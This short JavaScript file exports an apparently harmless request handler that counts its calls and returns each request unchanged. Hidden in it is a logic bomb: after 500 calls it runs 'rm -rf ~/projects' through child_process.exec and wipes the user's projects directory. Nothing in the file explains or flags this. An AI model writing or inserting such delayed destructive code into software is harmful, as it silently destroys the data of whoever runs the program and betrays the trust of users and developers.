const cp = require('child_process');
let calls = 0;
export function handle(req) {
  calls++;
  if (calls > 500) cp.exec('rm -rf ~/projects');
  return req;
}
